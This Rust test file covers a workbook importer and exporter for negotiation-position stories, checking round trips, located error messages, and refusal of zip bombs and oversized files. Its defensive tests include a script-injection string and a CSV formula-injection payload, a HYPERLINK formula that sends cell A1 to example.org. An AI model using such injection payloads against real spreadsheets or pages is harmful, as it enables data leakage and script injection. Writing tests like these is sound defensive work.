//! Native tests of the story workbook (src/workbook/): round trips through xlsx and CSV, files
//! changed by real spreadsheet programs (tests/fixtures/workbooks/), and bad input, each problem
//! checked for its place.
#![cfg(not(target_arch = "wasm32"))]

use std::time::Instant;

use demands_matrix::model::{parse_story, Stance, Story, DEFAULT_STORY_JSON};
use demands_matrix::workbook::{
    export_csv, export_xlsx, import, import_csv, paste_positions, Problem,
};

fn istanbul() -> Story {
    parse_story(DEFAULT_STORY_JSON).expect("the built-in story is valid")
}

fn fixture_story(name: &str) -> Story {
    let path = format!(
        "{}/tests/fixtures/stories/{name}",
        env!("CARGO_MANIFEST_DIR")
    );
    parse_story(&std::fs::read_to_string(path).unwrap()).unwrap()
}

fn workbook(name: &str) -> Vec<u8> {
    let path = format!(
        "{}/tests/fixtures/workbooks/{name}",
        env!("CARGO_MANIFEST_DIR")
    );
    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn lines(problems: &[Problem]) -> String {
    problems
        .iter()
        .map(|p| p.to_string())
        .collect::<Vec<_>>()
        .join("\n")
}

/// The problems of a failed import, as lines; panics if it succeeded.
fn problems(result: Result<Story, Vec<Problem>>) -> String {
    match result {
        Ok(_) => panic!("expected problems, the import succeeded"),
        Err(problems) => {
            assert!(!problems.is_empty());
            lines(&problems)
        }
    }
}

fn ok(result: Result<Story, Vec<Problem>>) -> Story {
    result.unwrap_or_else(|problems| panic!("{}", lines(&problems)))
}

/// A corpus story (stories/), read as it is published.
fn corpus_story(stem: &str) -> Story {
    let path = format!("{}/stories/{stem}.json", env!("CARGO_MANIFEST_DIR"));
    parse_story(&std::fs::read_to_string(&path).unwrap()).unwrap()
}

/// Stories with and without issue 33's fields: Geneva has per-sentence sources, a source's
/// author and date, excerpts, short titles and a condition; Putrajaya a mediator and a host too.
fn round_trip_stories() -> Vec<Story> {
    vec![
        istanbul(),
        fixture_story("two-sides.json"),
        fixture_story("hostile-strings.json"),
        fixture_story("istanbul-conditional.json"),
        corpus_story("ukraine-geneva-2025-11-24"),
        corpus_story("thailand-cambodia-putrajaya-2025-07-28"),
    ]
}

#[test]
fn stories_round_trip_through_xlsx_byte_for_byte() {
    for story in round_trip_stories() {
        let bytes = export_xlsx(&story).unwrap();
        let back = ok(import("story.xlsx", &bytes));
        assert_eq!(back.to_canonical_json(), story.to_canonical_json());
    }
}

#[test]
fn stories_round_trip_through_csv_byte_for_byte() {
    for story in round_trip_stories() {
        let files = export_csv(&story);
        let names: Vec<&str> = files.iter().map(|(n, _)| n.as_str()).collect();
        assert_eq!(
            names,
            [
                "story.csv",
                "sources.csv",
                "sides.csv",
                "issues.csv",
                "positions.csv"
            ]
        );
        let back = ok(import_csv(&files));
        assert_eq!(back.to_canonical_json(), story.to_canonical_json());
    }
}

#[test]
fn export_is_deterministic() {
    let story = istanbul();
    assert_eq!(export_xlsx(&story).unwrap(), export_xlsx(&story).unwrap());
}

#[test]
fn json_is_imported_too() {
    let story = ok(import("story.json", DEFAULT_STORY_JSON.as_bytes()));
    assert_eq!(story, istanbul());
}

/// The problem at `sheet`/`row`/`column`, or a panic listing them all.
fn at<'a>(
    problems: &'a [Problem],
    sheet: &str,
    row: Option<usize>,
    column: Option<&str>,
) -> &'a Problem {
    problems
        .iter()
        .find(|p| {
            p.place.as_ref().is_some_and(|place| {
                place.sheet == sheet && place.row == row && place.column.as_deref() == column
            })
        })
        .unwrap_or_else(|| {
            panic!(
                "no problem at {sheet} {row:?} {column:?} in\n{}",
                lines(problems)
            )
        })
}

fn errs(result: Result<Story, Vec<Problem>>) -> Vec<Problem> {
    match result {
        Ok(_) => panic!("expected problems, the import succeeded"),
        Err(problems) => problems,
    }
}

#[test]
fn a_template_edited_by_openpyxl_gives_exactly_its_edits() {
    let story = ok(import(
        "edited.xlsx",
        &workbook("istanbul-openpyxl-edited.xlsx"),
    ));
    let mut expected = istanbul();
    // Row 6 of the positions sheet is positions[4] (prisoners × moscow), row 12 is positions[10].
    assert_eq!(expected.positions[4].side, "moscow");
    expected.positions[4].summary = "Moscow agreed to swap prisoners.".into();
    assert_eq!(expected.positions[10].issue, "leaders-meeting");
    expected.positions[10].stance = Stance::Open;
    assert_eq!(story.to_canonical_json(), expected.to_canonical_json());
}

#[test]
fn a_template_saved_by_libreoffice_as_ods_and_xlsx_is_the_same_story() {
    let original = istanbul().to_canonical_json();
    for name in [
        "istanbul-libreoffice.ods",
        "istanbul-libreoffice.xlsx",
        "istanbul-template.xlsx",
    ] {
        let story = ok(import(name, &workbook(name)));
        assert_eq!(story.to_canonical_json(), original, "{name}");
    }
}

#[test]
fn headers_in_any_case_empty_rows_date_cells_and_whole_floats_change_nothing() {
    let original = istanbul().to_canonical_json();
    for name in ["editor-variations.xlsx", "date-serial.xlsx"] {
        let story = ok(import(name, &workbook(name)));
        assert_eq!(story.to_canonical_json(), original, "{name}");
    }
}

#[test]
fn error_cells_are_located_and_formulas_give_their_values() {
    let problems = errs(import("f.xlsx", &workbook("formulas-libreoffice.xlsx")));
    let title = at(&problems, "story", Some(2), Some("B"));
    assert_eq!(title.value.as_deref(), Some("#DIV/0!"));
    assert_eq!(
        title.to_string(),
        "story, row 2, column B (title): the cell holds the error #DIV/0!: fix the formula or type the value"
    );
    assert_eq!(
        at(&problems, "positions", Some(7), Some("C"))
            .value
            .as_deref(),
        Some("#N/A")
    );
    assert_eq!(
        at(&problems, "positions", Some(8), Some("H"))
            .value
            .as_deref(),
        Some("#REF!")
    );
    // Row 6's summary is a formula that LibreOffice computed: its value is read, nothing said.
    assert!(
        !problems
            .iter()
            .any(|p| p.place.as_ref().is_some_and(|pl| pl.row == Some(6))),
        "{}",
        lines(&problems)
    );
    assert_eq!(problems.len(), 3, "{}", lines(&problems));
}

#[test]
fn every_mistake_is_reported_at_once_with_its_cell() {
    let problems = errs(import("m.xlsx", &workbook("mistakes.xlsx")));
    let stance = at(&problems, "positions", Some(2), Some("C"));
    assert_eq!(
        stance.to_string(),
        "positions, row 2, column C (stance): \"demand\" is not a stance; did you mean \"demands\"? (the stances are demands, supports, open, rejects, not_stated)"
    );
    assert_eq!(stance.value.as_deref(), Some("demand"));
    let priority = at(&problems, "positions", Some(5), Some("D"));
    assert!(
        priority.message.contains("1.5 is not a priority"),
        "{priority}"
    );
    let side = at(&problems, "positions", Some(9), Some("B"));
    assert!(side.message.contains("unknown side \"kiev\""), "{side}");
    assert_eq!(side.place.as_ref().unwrap().header.as_deref(), Some("side"));
    let explainer = at(&problems, "issues", Some(3), Some("C"));
    assert_eq!(
        explainer.to_string(),
        "issues, row 3, column C (explainer): must not be empty"
    );
    let stray = at(&problems, "positions", Some(3), Some("K"));
    assert!(stray.message.contains("without a header"), "{stray}");
    // Errors with no cell are reported against their sheet.
    let gap = problems
        .iter()
        .find(|p| {
            p.message
                .starts_with("no position for side \"moscow\" on issue \"children\"")
        })
        .unwrap();
    assert_eq!(gap.place.as_ref().unwrap().sheet, "positions");
    assert_eq!(gap.place.as_ref().unwrap().row, None);
}

#[test]
fn merged_cells_keep_their_value_in_the_top_left_cell_only() {
    let problems = errs(import("merged.xlsx", &workbook("merged-cells.xlsx")));
    // Said once for both rows: one root cause, one message.
    let p = at(&problems, "positions", Some(3), Some("A"));
    assert!(p.message.starts_with("unknown issue \"\""), "{p}");
    assert!(p.message.ends_with("(the same in 2 rows: 3-4)"), "{p}");
}

#[test]
fn header_problems_are_named_once() {
    let problems = errs(import("d.xlsx", &workbook("duplicate-header.xlsx")));
    assert_eq!(
        lines(&problems),
        "positions, row 1, column E (stance): a second \"stance\" column (the first is column C); remove one"
    );
    let problems = errs(import("m.xlsx", &workbook("missing-header.xlsx")));
    assert_eq!(problems.len(), 2, "{}", lines(&problems));
    assert!(at(&problems, "positions", Some(1), Some("C"))
        .message
        .contains("\"stanse\" is not a column"));
    let missing = &problems[1];
    assert_eq!(
        missing.place.as_ref().unwrap().header.as_deref(),
        Some("stance")
    );
    assert!(missing.message.contains("no \"stance\" column"));
}

#[test]
fn missing_sheets_are_named() {
    let problems = errs(import("n.xlsx", &workbook("no-positions-sheet.xlsx")));
    assert_eq!(
        lines(&problems),
        "positions: the workbook has no \"positions\" sheet; a story workbook has the sheets story, sources, sides, issues, positions"
    );
    let problems = errs(import("e.xlsx", &workbook("no-story-sheets.xlsx")));
    assert_eq!(problems.len(), 5, "{}", lines(&problems));
}

#[test]
fn files_that_are_not_workbooks_are_refused_by_what_they_are() {
    let png = problems(import("photo.xlsx", &workbook("not-a-spreadsheet.xlsx")));
    assert_eq!(
        png,
        "photo.xlsx is a PNG image: import an .xlsx or .ods workbook, or a .json story file"
    );
    let text = problems(import("notes.xlsx", b"id,outlet\nwire,Wire\n"));
    assert!(
        text.starts_with("notes.xlsx is text, not a workbook"),
        "{text}"
    );
    let csv = problems(import("positions.csv", b"issue,side\n"));
    assert!(
        csv.starts_with(
            "positions.csv is one CSV file, and a CSV file holds one sheet: import the folder"
        ),
        "{csv}"
    );
    let empty = problems(import("empty.xlsx", b""));
    assert!(empty.starts_with("empty.xlsx is empty"), "{empty}");
    let broken = problems(import("broken.xlsx", b"PK\x03\x04 and then nothing"));
    assert!(
        broken.starts_with("broken.xlsx is not a readable workbook"),
        "{broken}"
    );
    let json = problems(import("story.json", b"{\"title\": 1}"));
    assert!(json.starts_with("story.json: line 1, column"), "{json}");
}

#[test]
fn zip_bombs_are_refused_before_they_are_unpacked_whole() {
    let start = Instant::now();
    let bomb = problems(import("bomb.xlsx", &workbook("zip-bomb.xlsx")));
    assert!(
        bomb.contains("unpacks to more than 67108864 bytes (64 MiB)"),
        "{bomb}"
    );
    let ods = problems(import("bomb.ods", &workbook("ods-repeat-bomb.ods")));
    assert!(
        ods.contains("repeats its cells to more than 2000000 cells"),
        "{ods}"
    );
    assert!(start.elapsed().as_secs() < 20, "{:?}", start.elapsed());
}

#[test]
fn a_20_mb_file_is_refused_with_the_cap_in_the_message() {
    let mut bytes = b"PK\x03\x04".to_vec();
    bytes.resize(20 << 20, 0);
    let big = problems(import("big.xlsx", &bytes));
    assert_eq!(
        big,
        "big.xlsx is 20971520 bytes; a workbook may be at most 10485760 bytes (10 MiB)"
    );
}

/// A story of `issues` issues × 12 sides, every position stated.
fn large_story(issues: usize) -> Story {
    let mut story = istanbul();
    let source = story.sources[0].id.clone();
    story.sides = (0..12)
        .map(|s| demands_matrix::model::Side {
            id: format!("side-{s}"),
            name: format!("Side {s}"),
            short: format!("S{s}"),
            view_title: None,
            members: vec![format!("Speaker {s}")],
            role: Default::default(),
        })
        .collect();
    story.issues = (0..issues)
        .map(|i| demands_matrix::model::Issue {
            id: format!("issue-{i}"),
            title: format!("Issue {i}"),
            short: None,
            explainer: format!("What issue {i} is about."),
        })
        .collect();
    story.positions = (0..issues * 12)
        .map(|n| demands_matrix::model::Position {
            issue: format!("issue-{}", n / 12),
            side: format!("side-{}", n % 12),
            stance: Stance::Supports,
            priority: None,
            summary: format!("Side {} backs issue {}.", n % 12, n / 12),
            condition: String::new(),
            quote: None,
            source: source.clone(),
            evidence: vec![format!("Side {} said it backs issue {}.", n % 12, n / 12).into()],
        })
        .collect();
    parse_story(&story.to_canonical_json()).unwrap()
}

#[test]
fn ten_thousand_rows_import_in_seconds() {
    let story = large_story(834);
    assert_eq!(story.positions.len(), 10_008);
    let bytes = export_xlsx(&story).unwrap();
    let start = Instant::now();
    let back = ok(import("large.xlsx", &bytes));
    let xlsx = start.elapsed();
    let files = export_csv(&story);
    let start = Instant::now();
    let from_csv = ok(import_csv(&files));
    let csv = start.elapsed();
    eprintln!(
        "10,008 positions: xlsx {} bytes read in {xlsx:?}, CSV in {csv:?}",
        bytes.len()
    );
    assert_eq!(back, story);
    assert_eq!(from_csv, story);
    // Debug build on a shared machine: generous, but a quadratic reader would miss it.
    assert!(
        xlsx.as_secs() < 20 && csv.as_secs() < 20,
        "{xlsx:?} {csv:?}"
    );
}

#[test]
fn a_sheet_past_the_row_cap_is_refused_quickly() {
    let mut files = export_csv(&istanbul());
    let positions = &mut files[4].1;
    for _ in 0..20_001 {
        positions.push_str("ceasefire,kyiv,open,,Open.,,,report,It is open.\n");
    }
    let start = Instant::now();
    let problems = errs(import_csv(&files));
    assert!(start.elapsed().as_secs() < 10);
    let p = at(&problems, "positions.csv", Some(20_002), None);
    assert!(p.message.contains("at most 20000 rows of data"), "{p}");
}

#[test]
fn cyrillic_right_to_left_and_hostile_text_survive_both_ways() {
    let mut story = istanbul();
    story.title = "Переговоры в Стамбуле: кто чего требует".into();
    story.standfirst = "مفاوضات اسطنبول — מי דורש מה \u{202e}evil\u{202c} <script>alert(1)</script> & \"quotes\", commas; tabs\there".into();
    story.lang = "ru".into();
    story.as_of.place = "Стамбул".into();
    story.sides[0].name = "Киев".into();
    story.sides[0].members = vec!["Зеленский".into(), "<b>Умеров</b>".into()];
    story.issues[0].explainer = "x".repeat(32_767);
    story.positions[0].summary = "_x0041_ stays as typed, =1+1 too".into();
    let story = parse_story(&story.to_canonical_json()).unwrap();
    let via_xlsx = ok(import("s.xlsx", &export_xlsx(&story).unwrap()));
    assert_eq!(via_xlsx.to_canonical_json(), story.to_canonical_json());
    let via_csv = ok(import_csv(&export_csv(&story)));
    assert_eq!(via_csv.to_canonical_json(), story.to_canonical_json());
}

#[test]
fn control_characters_and_overlong_cells_are_refused_or_kept_clearly() {
    // A cell longer than Excel allows cannot be exported, and is refused on import.
    let mut story = istanbul();
    story.issues[0].explainer = "y".repeat(40_000);
    let err = export_xlsx(&story).unwrap_err();
    assert!(
        err.starts_with("the workbook could not be written"),
        "{err}"
    );
    let problems = errs(import_csv(&export_csv(&story)));
    let p = at(&problems, "issues.csv", Some(2), Some("C"));
    assert!(
        p.message
            .contains("40000 characters; a cell may have at most 32767"),
        "{p}"
    );
    // A control character survives the trip (xlsx escapes it as _x0007_).
    let mut story = istanbul();
    story.issues[0].title = "bell\u{7}here".into();
    let back = ok(import("s.xlsx", &export_xlsx(&story).unwrap()));
    assert_eq!(back.issues[0].title, "bell\u{7}here");
}

#[test]
fn csv_folders_tolerate_what_spreadsheets_write() {
    let mut files = export_csv(&istanbul());
    // A byte-order mark (Excel's "CSV UTF-8"), file names in capitals, Windows line ends,
    // headers in other case, empty rows, priorities as 1.0, unknown files.
    files[0].1 = format!("\u{feff}{}", files[0].1);
    files[4].0 = "Positions.CSV".into();
    files[4].1 = files[4]
        .1
        .replacen("stance", " STANCE ", 1)
        .replace("demands,1,", "demands,1.0,");
    files[2].1 = files[2]
        .1
        .replacen("view title", "view_title", 1)
        .replace('\n', "\r\n");
    files[3].1 = files[3].1.replacen('\n', "\n,,\n\n", 1);
    files.push(("notes.csv".into(), "anything".into()));
    let story = ok(import_csv(&files));
    assert_eq!(story.to_canonical_json(), istanbul().to_canonical_json());
}

#[test]
fn a_date_serial_and_an_id_typed_as_a_number_read_as_an_editor_means() {
    let mut files = export_csv(&two_sides());
    files[0].1 = files[0].1.replace("2025-06-03", "45811");
    // In CSV a number is text; the serial is read only from a spreadsheet's number cell.
    let problems = errs(import_csv(&files));
    assert!(
        lines(&problems).contains("\"45811\" is not a date"),
        "{}",
        lines(&problems)
    );
}

fn two_sides() -> Story {
    fixture_story("two-sides.json")
}

#[test]
fn pasted_positions_replace_the_story_positions() {
    let story = istanbul();
    let tsv = |story: &Story| {
        let mut text = String::from(
            "issue\tside\tstance\tpriority\tsummary\tquote\tspeaker\tsource\tevidence\n",
        );
        for p in &story.positions {
            let quoted = |s: &str| {
                if s.contains(['\n', '"', '\t']) {
                    format!("\"{}\"", s.replace('"', "\"\""))
                } else {
                    s.to_owned()
                }
            };
            let cells = [
                p.issue.clone(),
                p.side.clone(),
                p.stance.id().to_owned(),
                p.priority.map(|n| n.to_string()).unwrap_or_default(),
                quoted(&p.summary),
                quoted(p.quote.as_ref().map_or("", |q| q.text.as_str())),
                quoted(p.quote.as_ref().map_or("", |q| q.speaker.as_str())),
                p.source.clone(),
                quoted(
                    &p.evidence
                        .iter()
                        .map(|e| e.text.as_str())
                        .collect::<Vec<_>>()
                        .join("\n"),
                ),
            ];
            text.push_str(&cells.join("\t"));
            text.push('\n');
        }
        text
    };
    let mut changed = story.clone();
    changed.positions[10].stance = Stance::Open;
    let pasted = ok(paste_positions(&story, &tsv(&changed)));
    assert_eq!(pasted.to_canonical_json(), changed.to_canonical_json());

    let mut wrong = story.clone();
    wrong.positions[1].side = "moskva".into();
    let text = tsv(&wrong).replacen("\tnot_stated\t", "\tnot stated yet\t", 1);
    let problems = errs(paste_positions(&story, &text));
    let side = at(&problems, "pasted rows", Some(3), Some("B"));
    assert!(side.message.contains("unknown side \"moskva\""), "{side}");
    let stance = at(&problems, "pasted rows", Some(3), Some("C"));
    assert!(
        stance
            .message
            .contains("\"not stated yet\" is not a stance; did you mean \"not_stated\""),
        "{stance}"
    );
    let problems = errs(paste_positions(&story, "just some words"));
    assert!(
        lines(&problems).contains("no \"stance\" column"),
        "{}",
        lines(&problems)
    );
}

#[test]
fn two_sheets_for_one_table_are_reported() {
    let mut files = export_csv(&two_sides());
    files.push(("POSITIONS.csv".into(), files[4].1.clone()));
    let problems = errs(import_csv(&files));
    assert!(
        lines(&problems).contains("POSITIONS.csv: a second file for the sheet \"positions\""),
        "{}",
        lines(&problems)
    );
}

/// Found by fuzzing: thousands of rows with a bad stance each made the quieting of follow-on
/// messages quadratic (14 s for 24 kB).
#[test]
fn thousands_of_bad_rows_are_reported_quickly() {
    let mut text =
        String::from("issue\tside\tstance\tpriority\tsummary\tquote\tspeaker\tsource\tevidence\n");
    for _ in 0..10_000 {
        text.push_str("ceasefire\tkyiv\tmaybe\t\t\t\t\treport\t\n");
    }
    let start = Instant::now();
    let problems = errs(paste_positions(&istanbul(), &text));
    assert!(start.elapsed().as_secs() < 5, "{:?}", start.elapsed());
    assert!(problems.len() >= 10_000);
}

/// The corpus stories an editor made as workbooks (stories/workbooks/, saved by LibreOffice):
/// each imports to its story file byte for byte, so the two cannot drift apart.
#[test]
fn the_corpus_workbooks_saved_by_libreoffice_are_their_stories() {
    let root = env!("CARGO_MANIFEST_DIR");
    for stem in [
        "eln-mexico-2023-02-13",
        "thailand-cambodia-putrajaya-2025-07-28",
    ] {
        let file = format!("{root}/stories/workbooks/{stem}.xlsx");
        let bytes = std::fs::read(&file).unwrap_or_else(|e| panic!("{file}: {e}"));
        let story = ok(import(&file, &bytes));
        let json = std::fs::read_to_string(format!("{root}/stories/{stem}.json")).unwrap();
        assert_eq!(story.to_canonical_json(), json, "{stem}");
    }
}

#[test]
fn csv_export_holds_no_formula_a_spreadsheet_would_evaluate_and_reads_back_unchanged() {
    let mut story = istanbul();
    story.title = r#"=HYPERLINK("http://example.org/?"&A1,"Click to verify")"#.into();
    story.standfirst = "+1 more round of talks".into();
    story.sources[0].outlet = "@wire".into();
    story.sides[0].name = "-Kyiv".into();
    story.issues[0].title = "'Tis an apostrophe, kept".into();
    story.issues[1].title = "'=already behind an apostrophe".into();
    story.positions[0].summary = "\tbegins with a tab".into();
    story.positions[1].summary = "\rbegins with a carriage return".into();
    // A valid story, as a file would carry it.
    let story = parse_story(&story.to_canonical_json()).unwrap_or_else(|e| panic!("{e:?}"));
    let files = export_csv(&story);
    for (name, text) in &files {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(text.as_bytes());
        for record in reader.records() {
            for field in record.unwrap().iter() {
                assert!(
                    !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{name}: {field:?} would be evaluated"
                );
            }
        }
    }
    let positions = &files.iter().find(|(n, _)| n == "positions.csv").unwrap().1;
    assert!(positions.contains("'\tbegins with a tab"), "{positions}");
    let back = ok(import_csv(&files));
    assert_eq!(back.to_canonical_json(), story.to_canonical_json());
}

#[test]
fn a_workbook_carries_its_source_texts_and_says_once_which_name_no_source() {
    use demands_matrix::model::check::SourceText;
    use demands_matrix::workbook::{
        export_csv_with_texts, export_xlsx_with_texts, import_csv_with_texts, import_with_texts,
    };
    let story = istanbul();
    let report = include_str!("../fixtures/istanbul-talks-report.txt");
    let long = format!("{} end", "word ".repeat(8_000));
    let texts = vec![SourceText {
        source_id: "report".into(),
        text: format!("{report}\n\n{long}"),
    }];
    let words = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
    let xlsx = import_with_texts(
        "story.xlsx",
        &export_xlsx_with_texts(&story, &texts).unwrap(),
    )
    .unwrap_or_else(|p| panic!("{}", lines(&p)));
    let csv = import_csv_with_texts(&export_csv_with_texts(&story, &texts))
        .unwrap_or_else(|p| panic!("{}", lines(&p)));
    for imported in [xlsx, csv] {
        // The story's own sheets are unchanged by the extra sheet.
        assert_eq!(
            imported.story.to_canonical_json(),
            story.to_canonical_json()
        );
        assert_eq!(imported.texts.len(), 1);
        assert_eq!(imported.texts[0].source_id, "report");
        assert_eq!(words(&imported.texts[0].text), words(&texts[0].text));
    }
    // A colleague's rows for a source the story does not have: one message, every row named.
    let mut files = export_csv_with_texts(&story, &texts);
    let sheet = files
        .iter_mut()
        .find(|(name, _)| name == "source_texts.csv")
        .unwrap();
    sheet
        .1
        .push_str("reuters,one line\nreuters,another\nreuters,a third\n");
    let problems = match import_csv_with_texts(&files) {
        Ok(_) => panic!("an unknown source was accepted"),
        Err(problems) => problems,
    };
    assert_eq!(problems.len(), 1, "{}", lines(&problems));
    let said = problems[0].to_string();
    assert!(
        said.starts_with("source_texts.csv, row ")
            && said.contains("\"reuters\" is not a source of the story (rows ")
            && said.contains("add \"reuters\" to the sources sheet"),
        "{said}"
    );
}

#[test]
fn a_side_missing_from_the_sides_sheet_is_one_message_with_its_rows_and_its_fix() {
    let mut files = export_csv(&istanbul());
    let sides = files.iter_mut().find(|(n, _)| n == "sides.csv").unwrap();
    // The editor's new side, used on every row, never added to the sides sheet.
    sides.1 = sides.1.replace("west,", "qatar,");
    let positions = files
        .iter_mut()
        .find(|(n, _)| n == "positions.csv")
        .unwrap();
    positions.1 = positions.1.replace(",west,", ",qatarr,");
    let problems = match import_csv(&files) {
        Ok(_) => panic!("an unknown side was accepted"),
        Err(problems) => problems,
    };
    let unknown: Vec<&Problem> = problems
        .iter()
        .filter(|p| p.message.starts_with("unknown side \"qatarr\""))
        .collect();
    assert_eq!(unknown.len(), 1, "{}", lines(&problems));
    let said = unknown[0].to_string();
    assert!(
        said.contains("correct the cell, or add \"qatarr\" to the sides sheet")
            && said.contains("(the same in 14 rows: "),
        "{said}"
    );
    // What follows from it, the new side's 14 empty cells, is one message too.
    let gaps: Vec<&Problem> = problems
        .iter()
        .filter(|p| p.message.starts_with("no position for side \"qatar\""))
        .collect();
    assert_eq!(gaps.len(), 1, "{}", lines(&problems));
    assert!(
        gaps[0].message.contains(" on 14 issues (\"ceasefire\", "),
        "{}",
        gaps[0]
    );
    assert_eq!(problems.len(), 2, "{}", lines(&problems));
}

#[test]
fn a_side_role_goes_through_the_workbook_and_a_wrong_one_is_placed() {
    let mut story = istanbul();
    story.sides[2].role = demands_matrix::model::Role::Mediator;
    let back = ok(import("story.xlsx", &export_xlsx(&story).unwrap()));
    assert_eq!(back.to_canonical_json(), story.to_canonical_json());
    let mut files = export_csv(&story);
    let sides = files.iter_mut().find(|(n, _)| n == "sides.csv").unwrap();
    sides.1 = sides.1.replace(",mediator", ",broker");
    let problems = match import_csv(&files) {
        Ok(_) => panic!("an unknown role was accepted"),
        Err(problems) => problems,
    };
    assert_eq!(
        lines(&problems),
        "sides.csv, row 4, column F (role): \"broker\" is not a role; the roles are party, mediator, host, observer (empty is party)"
    );
}

#[test]
fn a_condition_goes_through_the_workbook_and_csv() {
    let story = fixture_story("istanbul-conditional.json");
    let back = ok(import("story.xlsx", &export_xlsx(&story).unwrap()));
    assert_eq!(back.to_canonical_json(), story.to_canonical_json());
    let back = ok(import_csv(&export_csv(&story)));
    assert_eq!(back.to_canonical_json(), story.to_canonical_json());
}

/// The corpus story with every new field, exported and saved as .ods by LibreOffice (with the
/// texts of its ten sources), reads back as its story file byte for byte.
#[test]
fn a_story_with_every_new_field_saved_as_ods_by_libreoffice_is_its_story() {
    use demands_matrix::workbook::import_with_texts;
    let story = corpus_story("ukraine-geneva-2025-11-24");
    let imported = import_with_texts(
        "ukraine-geneva-libreoffice.ods",
        &workbook("ukraine-geneva-libreoffice.ods"),
    )
    .unwrap_or_else(|p| panic!("{}", lines(&p)));
    assert_eq!(
        imported.story.to_canonical_json(),
        story.to_canonical_json()
    );
    assert_eq!(imported.texts.len(), 10);
    let shared = story
        .positions
        .iter()
        .flat_map(|p| &p.evidence)
        .filter(|e| e.source.is_some())
        .count();
    assert!(shared >= 1, "the story cites a sentence of another source");
    assert!(story.sources.iter().any(|s| s.author.is_some()));
    assert!(story
        .issues
        .iter()
        .all(|i| i.title.chars().count() <= 26 || i.short.is_some()));
}

#[test]
fn evidence_sources_go_one_per_line_and_a_wrong_count_or_id_is_placed() {
    let story = corpus_story("thailand-cambodia-putrajaya-2025-07-28");
    let files = export_csv(&story);
    let positions = &files.iter().find(|(n, _)| n == "positions.csv").unwrap().1;
    // Only rows citing another source fill the column, with every line's source, their own too.
    assert!(positions.contains(",\"liga\ntna\"\n"), "{positions}");

    // One id for two lines of evidence.
    let mut wrong = files.clone();
    let sheet = wrong
        .iter_mut()
        .find(|(n, _)| n == "positions.csv")
        .unwrap();
    sheet.1 = sheet.1.replacen(",\"liga\ntna\"\n", ",tna\n", 1);
    let said = problems(import_csv(&wrong));
    assert!(
        said.contains("positions.csv, row ")
            && said.contains("(evidence sources): 1 source id for 2 lines of evidence"),
        "{said}"
    );

    // An id the sources sheet does not have.
    let mut wrong = files.clone();
    let sheet = wrong
        .iter_mut()
        .find(|(n, _)| n == "positions.csv")
        .unwrap();
    sheet.1 = sheet
        .1
        .replacen(",\"liga\ntna\"\n", ",\"liga\nt-n-a\"\n", 1);
    let said = problems(import_csv(&wrong));
    assert!(
        said.contains("(evidence sources)") && said.contains("t-n-a"),
        "{said}"
    );
}

#[test]
fn the_template_has_a_read_me_on_every_column_and_no_news() {
    use demands_matrix::workbook::{import_with_texts, readme, template_xlsx};
    let bytes = template_xlsx().unwrap();
    // Every column import reads is explained, and nothing import does not read.
    let explained: Vec<(&str, &str)> = readme::COLUMNS.iter().map(|(s, c, ..)| (*s, *c)).collect();
    let read = readme::read_columns();
    for column in &read {
        assert!(explained.contains(column), "{column:?} has no read-me row");
    }
    for column in &explained {
        assert!(
            read.contains(column),
            "{column:?} is explained but not read"
        );
    }
    assert!(readme::required("positions", "stance") && !readme::required("positions", "condition"));
    // Opened, it says what to fill in, and nothing of any story.
    let said = match import_with_texts("story-template.xlsx", &bytes) {
        Ok(_) => panic!("an empty template is not a story"),
        Err(problems) => lines(&problems),
    };
    assert!(said.contains("a story needs at least one source"), "{said}");
    assert!(
        !said.contains("Istanbul") && !said.contains("Kyiv"),
        "{said}"
    );
    // An exported story starts with the same sheet, and reads back the same (the sheet is skipped).
    let story = istanbul();
    let back = ok(import("story.xlsx", &export_xlsx(&story).unwrap()));
    assert_eq!(back.to_canonical_json(), story.to_canonical_json());
}
